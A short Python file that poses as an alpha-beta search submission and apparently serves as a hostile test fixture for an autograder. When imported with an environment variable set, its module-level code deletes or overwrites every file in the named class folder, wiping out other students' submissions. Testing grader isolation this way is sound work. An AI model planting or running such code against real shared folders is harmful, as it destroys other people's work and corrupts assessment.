"""Overwrites every other submission in the class folder named by AISEARCH_ATTACK_CLASS,
and deletes its own original."""
import os
from pathlib import Path


def alphabeta_decision(game, state, depth, evaluate):
    return 0, None


_folder = os.environ.get("AISEARCH_ATTACK_CLASS")
if _folder:
    for _f in Path(_folder).iterdir():
        try:
            if _f.name.startswith("03_classmates"):
                _f.unlink()
            else:
                _f.write_text("def alphabeta_decision(game, state, depth, evaluate):\n"
                              "    return 0, None\n")
        except OSError:
            pass
